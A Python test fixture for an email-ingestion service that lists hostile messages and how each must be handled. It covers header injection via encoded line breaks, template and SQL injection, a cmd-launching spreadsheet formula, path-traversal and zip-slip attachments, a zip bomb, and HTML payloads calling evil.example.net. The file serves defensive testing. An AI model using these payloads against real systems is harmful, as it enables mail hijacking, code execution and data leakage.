"""Hostile mails by what they are after: injections, HTML, loops."""

import base64

from ingest.model import State
from tests.flow.hostile import ADDRESS, ALIAS, OPEN, SERVER, WORDS
from tests.flow.hostile_bytes import UNANSWERED, answered, attached, bomb, html, mail, report, silent, slip

# An encoded word (RFC 2047): Python's library decodes it as it folds a head, line breaks included.
ENCODED = "=?utf-8?q?x=0d=0aBcc:victim=40example.com=0d=0a=0d=0aevil?="
TWICE = "=?utf-8?b?" + base64.b64encode(ENCODED.encode()).decode() + "?="

INJECTION = [
    answered(
        "line-break-in-the-name",
        mail(
            "line-break-in-the-name",
            From="=?utf-8?q?Mary=0D=0ABcc=3A_evil=40example.net?= <line-break-in-the-name@example.org>",
        ),
    ),
    answered(
        "line-break-in-the-subject",
        mail("line-break-in-the-subject", Subject="=?utf-8?q?x=0D=0ABcc=3A_evil=40example.net=0D=0A=0D=0Aevil?="),
    ),
    answered(
        "line-break-in-the-address",
        mail("line-break-in-the-address", From="<a@example.org\r\n Bcc: victim@example.com>"),
    ),
    answered("an-encoded-address", mail("an-encoded-address", From=f"M <{ENCODED}@example.org>")),
    answered(  # such a From has no address; the envelope's sender has one
        "an-address-of-encoded-parts",
        mail("an-address-of-encoded-parts", From="M <=?utf-8?q?a=40example.net=0D=0ABcc=3A?=@example.org>"),
    ),
    answered("an-encoded-name", mail("an-encoded-name", From=f'"{ENCODED}" <an-encoded-name@example.org>')),
    answered(
        "a-name-encoded-twice",
        mail("a-name-encoded-twice", From=f"{TWICE} <a-name-encoded-twice@example.org>"),
    ),
    answered("an-encoded-message-id", mail("an-encoded-message-id", Message_ID=f"<{ENCODED}@example.org>")),
    answered(
        "encoded-references",
        mail("encoded-references", head=f"References: <{ENCODED}@example.org>\nIn-Reply-To: <{ENCODED}@example.org>"),
    ),
    silent(
        "an-encoded-envelope",
        mail("an-encoded-envelope", From="-", envelope=f"{ENCODED}@example.org"),
        OPEN,
    ),
    answered("two-at-signs", mail("two-at-signs", From="a@victim.example.com@example.org")),
    silent(
        "two-at-signs-everywhere",
        mail("two-at-signs-everywhere", From="a@x@y", envelope="a@x@y"),
        UNANSWERED,
    ),
    answered(
        "a-template-for-a-name",
        mail(
            "a-template-for-a-name",
            From="\"{{ 7*191 }} {% include '/etc/passwd' %}\" <a-template-for-a-name@example.org>",
        ),
        untold="1337",
    ),
    answered(
        "a-template-in-the-body",
        mail("a-template-in-the-body", f"I am {{{{ 7*191 }}}} {{{{ settings.secret }}}}. {WORDS}"),
        untold="1337",
    ),
    answered("sql", mail("sql", f"{WORDS}\r\n'; DROP TABLE item; --", Subject="'; DELETE FROM item; --")),
    answered(
        "a-log-line",
        mail("a-log-line", Subject="=?utf-8?q?x=0A2026-03-05_=5Binfo=5D_settled_item=3D1?="),
    ),
    answered("a-formula", mail("a-formula", From="\"=cmd|' /C calc'!A0\" <a-formula@example.org>", Subject="=1+1")),
    answered(
        "bidi-override",
        mail(
            "bidi-override",
            f"{WORDS} \u202egnp.exe",
            From="=?utf-8?q?Mary_=E2=80=AEelpmaxE?= <bidi-override@example.org>",
        ),
    ),
    answered("a-forged-mark", mail("a-forged-mark", Subject="[PR-26-00001-1] forged reference")),
    answered(
        "a-reply-to-a-victim", mail("a-reply-to-a-victim", head="Reply-To: victim@example.com\nCc: v2@example.com")
    ),
    answered("two-recipients", mail("two-recipients", From="two-recipients@example.org, victim@example.com")),
    answered(
        "another-name-for-a-path", attached("another-name-for-a-path", b"Number 4711.", "../../../../tmp/evil.txt")
    ),
    answered(
        "a-script-for-a-file-name", attached("a-script-for-a-file-name", b"4711.", "<img src=x onerror=evil()>.txt")
    ),
    answered("zip-slip", attached("zip-slip", slip(), "photos.zip"), told="The words of the inner file."),
    answered("a-zip-bomb", attached("a-zip-bomb", bomb(60_000_000), "photos.zip"), said="more than"),
    answered("an-mbox-line-first", b"From evil@example.net Thu Mar 05 10:00:00 2026\r\n" + mail("an-mbox-line-first")),
    answered("a-pipeline-of-heads", mail("a-pipeline-of-heads", f"{WORDS}\r\n.\r\nMAIL FROM:<evil@example.net>\r\n")),
]

HTML = [
    html("html-script", "<script>alert('evil')</script>"),
    html("html-onerror", "<img src=x onerror=alert('evil')>"),
    html(
        "html-formaction",
        "<form action='https://evil.example.net'><button formaction='javascript:evil()'></button></form>",
    ),
    html("html-svg", "<svg><script>alert('evil')</script><text>evil</text></svg>"),
    html("html-unclosed-img", "<img src='https://evil.example.net/?"),
    html("html-javascript", "<a href='javascript:evil()'>here</a>"),
    html("html-css", "<style>@import url(https://evil.example.net/x.css); p {background: url(evil)}</style>"),
    html("html-remote-image", "<img src='https://evil.example.net/pixel.gif'>"),
    html("html-meta", "<meta http-equiv=refresh content='0;url=https://evil.example.net'>"),
    html("html-base", "<base href='https://evil.example.net/'>"),
    html("html-iframe", "<iframe src='https://evil.example.net'>evil</iframe>"),
    html("html-hidden", "<div style='display: none'>evil</div><p hidden>evil</p>"),
    html("html-deep", "<div>" * 5_000),
    html("html-wide", "<table><tr><td>" * 1_000),
    html("html-entities", "<!DOCTYPE x [<!ENTITY a 'evil'><!ENTITY b '&a;&a;'>]>"),
]

OWN_SERVER_DOUBTS = f"Authentication-Results: {SERVER}; dmarc=fail header.from=example.org"
THEIR_SERVER_LIES = "Authentication-Results: mx.evil.example.net; dmarc=fail header.from=example.org"

LOOPS = [
    silent("a-bounce", report("a-bounce", "a-bounce@example.org")),
    silent(
        "a-bounce-of-nothing-of-ours", mail("a-bounce-of-nothing-of-ours", head="X-Failed-Recipients: x@example.net")
    ),
    silent("the-null-sender", mail("the-null-sender", envelope=" ").replace(b"< >", b"<>")),
    silent("out-of-office", mail("out-of-office", head="Auto-Submitted: auto-replied", Subject="Re: your letter")),
    silent(
        "out-of-office-by-its-subject", mail("out-of-office-by-its-subject", "Back soon.", Subject="Automatic reply: x")
    ),
    silent("fuori-ufficio", mail("fuori-ufficio", "Sono in ferie.", Subject="Risposta automatica: Il Suo reclamo")),
    silent(
        "a-headerless-robot",
        mail("a-headerless-robot", "The backup ran.", From="no-reply@robot.example.net"),
        UNANSWERED,
    ),
    silent(
        "a-mail-system", mail("a-mail-system", From="MAILER-DAEMON@example.net", envelope="mailer-daemon@example.net")
    ),
    silent("ourselves", mail("ourselves", From=f"Complaints <{ADDRESS}>", envelope=ADDRESS)),
    silent("ourselves-in-capitals", mail("ourselves-in-capitals", From=ADDRESS.upper(), envelope=ADDRESS.upper())),
    silent("an-alias-of-ours", mail("an-alias-of-ours", From=ALIAS, envelope=ALIAS)),
    silent("a-tag-of-ours", mail("a-tag-of-ours", From=ADDRESS.replace("@", "+tag@"), envelope=None)),
    silent("our-envelope", mail("our-envelope", envelope=ADDRESS)),
    silent(
        "another-postroom",
        mail("another-postroom", head="X-Postroom-Mark: v1 postroom.0 00000000000000000000000000000000"),
    ),
    silent(
        "another-helpdesk",
        mail(
            "another-helpdesk",
            "We received your request.",
            head="X-Auto-Response-Suppress: All",
            Subject="[Ticket #4711] Your request has been received",
        ),
    ),
    silent("a-list", mail("a-list", "News of the week.", head="List-Id: <news.example.net>\nPrecedence: list")),
    silent(
        "a-complaint-through-a-list",
        mail(
            "a-complaint-through-a-list",
            "I complain: ticket INC-4471288 is not solved.",
            head="List-Id: <support.example.net>",
        ),
        frozenset({State.HELD}),
    ),
    silent(
        "a-dmarc-report",
        mail(
            "a-dmarc-report",
            "See attachment.",
            From="dmarc-noreply@example.net",
            Subject="Report Domain: northwind.example.org Submitter: example.net Report-ID: 1",
        ),
    ),
    silent(
        "a-loop-of-60-servers",
        mail(
            "a-loop-of-60-servers",
            head="\n".join(
                f"Received: from a{n}.example.net by b{n}.example.net; Thu, 05 Mar 2026 10:00:00 +0000"
                for n in range(60)
            ),
        ),
    ),
    silent("a-forged-sender", mail("a-forged-sender", head=OWN_SERVER_DOUBTS), OPEN, said="forged"),
    answered("anothers-doubts-are-not-believed", mail("anothers-doubts-are-not-believed", head=THEIR_SERVER_LIES)),
    answered("a-sender-who-is-not-the-envelope", mail("a-sender-who-is-not-the-envelope", From="victim@example.com")),
    answered(
        "a-technical-envelope-that-is-vouched-for",
        mail(
            "a-technical-envelope-that-is-vouched-for",
            envelope="bounces+123@post.example.net",
            head=OWN_SERVER_DOUBTS.replace("fail", "pass"),
        ),
    ),
]
